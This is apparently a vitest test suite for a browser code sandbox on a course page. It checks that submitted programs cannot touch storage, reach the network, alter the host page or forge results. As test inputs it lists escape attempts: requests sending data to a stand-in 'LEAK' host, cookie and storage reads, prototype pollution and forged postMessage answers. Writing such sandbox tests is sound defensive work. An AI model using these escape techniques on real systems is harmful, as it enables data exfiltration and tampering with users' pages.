import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { showText } from '../../dist/index.js';
import { BROWSER, CoursePage } from './course-page.js';

const CANARY = '{"solved":["derivatives"]}';

describe.skipIf(!BROWSER)('a program behind its walls', () => {
  let course: CoursePage;
  beforeAll(async () => {
    course = await CoursePage.open();
    await course.page.evaluate(async (canary) => {
      localStorage.setItem('progress', canary);
      await (await caches.open('course')).put('/canary', new Response(canary));
    }, CANARY);
  });
  afterAll(() => course?.close());

  /** What an expression gives, or how it failed. */
  async function tried(expression: string): Promise<string> {
    const { ending } = await course.run(expression);
    if (ending.how === 'done') return ending.value ? showText(ending.value) : 'nothing';
    return ending.how === 'failed' ? `${ending.error.name}: ${ending.error.message}` : ending.how;
  }

  async function canaryIsUntouched(): Promise<void> {
    const found = await course.page.evaluate(async () => ({
      url: location.href,
      stored: { ...localStorage },
      caches: await caches.keys(),
      cached: await (await caches.match('/canary'))?.text(),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      databases: (await indexedDB.databases()).length,
    }));
    expect(found).toEqual({
      url: `${course.origin}/`,
      stored: { progress: CANARY },
      caches: ['course'],
      cached: CANARY,
      workers: 0,
      databases: 0,
    });
  }

  it.each([
    'localStorage.clear()',
    'sessionStorage.clear()',
    'indexedDB.open("x")',
    'await (globalThis as any).cookieStore.getAll()',
    'await (navigator as any).storage.getDirectory()',
    'document.cookie',
  ])('has no storage: %s (case 9)', async (source) => {
    expect(await tried(source)).toMatch(/^(ReferenceError|TypeError): /);
    await canaryIsUntouched();
  });

  it.each([
    'await fetch("LEAK/fetch")',
    'await fetch("LEAK/fetch", { mode: "no-cors" })',
    'const x = new XMLHttpRequest(); x.open("GET", "LEAK/xhr", false); x.send()',
    'new WebSocket("LEAK/ws".replace("http", "ws"))',
    'new EventSource("LEAK/events")',
    'navigator.sendBeacon("LEAK/beacon", "x")',
    'new Image().src = "LEAK/image"',
    'importScripts("LEAK/script.js")',
    'await (0, eval)("import(\'LEAK/module.js\')")',
    'new Worker("LEAK/worker.js")',
    'new Worker(URL.createObjectURL(new Blob(["fetch(\'LEAK/nested\')"])))',
    'await new FontFace("x", "url(LEAK/font)").load()',
    'new (globalThis as any).RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] })',
    'await new (globalThis as any).WebTransport("https://127.0.0.1/").ready',
  ])('has no network: %s (case 10)', async (source) => {
    expect(await tried(source)).toMatch(/^(ReferenceError|TypeError|\w*Error): /);
    expect(course.leaks).toEqual([]);
  });

  it('has no network even where its own doors were forgotten (case 10)', async () => {
    // What a fresh realm or a hidden prototype would give back.
    const source = `const doors: string[] = [];
      for (let o: any = globalThis; o; o = Object.getPrototypeOf(o)) {
        for (const name of ['fetch', 'importScripts', 'indexedDB', 'caches', 'postMessage', 'close']) {
          const own = Object.getOwnPropertyDescriptor(o, name);
          if (own?.get) doors.push(name);
          else if (typeof own?.value === 'function') { try { own.value.call(globalThis, 'LEAK/found'); doors.push(name); } catch {} }
        }
      }
      doors.join()`;
    expect(await tried(source)).toBe('');
    expect(course.leaks).toEqual([]);
  });

  it.each([
    'top.location.href = "LEAK/top"',
    'parent.document.title',
    'window.open("LEAK/open")',
    'document.body.innerHTML = ""',
    'for (let i = 0; i < 100; i++) alert(i)',
    'location.href = "LEAK/location"',
    'await (globalThis as any).clients.openWindow("LEAK/client")',
  ])('reaches no page: %s (cases 11, 12 and 14)', async (source) => {
    const before = await course.page.content();
    await tried(source);
    expect(await course.page.content()).toBe(before);
    expect(course.page.url()).toBe(`${course.origin}/`);
    expect(course.page.context().pages()).toHaveLength(1);
    expect(course.leaks).toEqual([]);
  });

  it('registers no service worker and opens no cache (case 17)', async () => {
    expect(await tried('await navigator.serviceWorker.register("/sw.js")')).toMatch(/Error: /);
    expect(await tried('await caches.open("x")')).toMatch(/Error: /);
    await canaryIsUntouched();
  });

  it('spoils nothing for the next program or the page (case 13)', async () => {
    const spoil = `Math.abs = () => 0; Array.prototype.map = null as never; JSON.stringify = () => 'x';
      (Object.prototype as any).polluted = 1; Promise.prototype.then = null as never;
      (globalThis as any).console = null; (globalThis as any).left = 1;`;
    await course.run(spoil);
    expect(
      await tried(
        '[Math.abs(-1), [1].map(String), ({} as any).polluted, (globalThis as any).left]',
      ),
    ).toBe('[1, ["1"], undefined, undefined]');
    const page = await course.page.evaluate(() => [
      Math.abs(-1),
      JSON.stringify([1]),
      'left' in window,
    ]);
    expect(page).toEqual([1, '[1]', false]);
  });

  it('is shown and judged as before when it spoils its own globals (case 13)', async () => {
    const { ending } = await course.run(
      'Array.prototype.push = null as never; Array.isArray = () => false; Object.is = () => true; Math.abs = () => 0; JSON.stringify = null as never;\n[1, { a: -0 }]; //=> [1, { a: 0 }]\n2; //=> 3\n[1, { a: -0 }]',
    );
    expect(ending).toMatchObject({ how: 'done', claims: [{ state: 'holds' }, { state: 'fails' }] });
    expect(ending.how === 'done' && ending.value && showText(ending.value)).toBe('[1, {a: -0}]');
  });

  it('sees nothing of the functions that show its values', async () => {
    // Sloppy code can ask for its caller; strict callers do not answer.
    const source = `const get = new Function('return String(arguments.callee.caller)');
      Object.defineProperty({}, 'caller', { get: get as never, enumerable: true })`;
    expect(await tried(source)).toBe('{caller: "null"}');
  });

  it('cannot forge an answer (case 16)', async () => {
    const { outcomes, ending } = await course.call(
      `const forged = { say: 'items', items: [{ kind: 'outcome', index: 0, outcome: { how: 'returned', value: 42 } }] };
      for (const attempt of [
        () => postMessage(forged), () => (self as any).parent.postMessage(forged, '*'),
        () => dispatchEvent(new MessageEvent('message', { data: forged })),
        () => { MessagePort.prototype.postMessage = function () {}; },
        () => { (globalThis as any).__backprop_define('x', () => {}); },
      ]) { try { attempt(); } catch {} }
      export const f = () => 1;`,
      [{ export: 'f', args: [] }],
    );
    expect(ending).toMatchObject({ how: 'done' });
    expect(outcomes).toEqual([{ how: 'returned', value: 1 }]);
  });

  it('is answered for by nobody else: a foreign window’s message is ignored (case 15)', async () => {
    const running = course.call(
      'export const f = async () => { await new Promise((r) => setTimeout(r, 400)); return 1; };',
      [{ export: 'f', args: [] }],
    );
    await course.page.evaluate(() => {
      const outcome = { how: 'returned', value: 42 };
      const items = [{ kind: 'outcome', index: 0, outcome }];
      for (const data of [
        { say: 'said', run: 1, message: { say: 'items', items } },
        { say: 'over', run: 1, verdict: null },
      ]) {
        window.postMessage(data, '*');
        window.frames[0]?.postMessage({ backprop: 'connect', version: 2 }, '*');
      }
    });
    expect((await running).outcomes).toEqual([{ how: 'returned', value: 1 }]);
  });
});
